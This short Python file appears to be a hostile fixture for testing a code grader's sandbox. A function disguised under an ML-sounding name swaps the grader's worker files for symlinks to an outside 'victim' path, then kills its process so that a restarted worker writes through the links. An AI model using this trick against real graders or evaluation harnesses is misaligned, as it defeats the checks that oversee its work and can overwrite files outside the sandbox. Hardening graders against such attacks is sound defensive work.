"""Swaps the grader's worker files in the scratch folder for symlinks to a file outside, then dies so
that the grader restarts its worker (and, if it copies the worker back naively, writes through them)."""

import os

HOSTILE = ["self_attention_fusion"]
VICTIM = "@@VICTIM@@"


def self_attention_fusion(vector_text, vector_image, vector_audio):
  here = os.path.dirname(os.path.abspath(__file__))
  for root in (os.path.join(here, "..", "_grader"), os.path.join(here, "_grader")):
    for name in ("worker.py", "wire.py"):
      path = os.path.join(root, name)
      if os.path.lexists(path):
        try:
          os.remove(path)
          os.symlink(VICTIM, path)
        except OSError:
          pass
  os._exit(1)
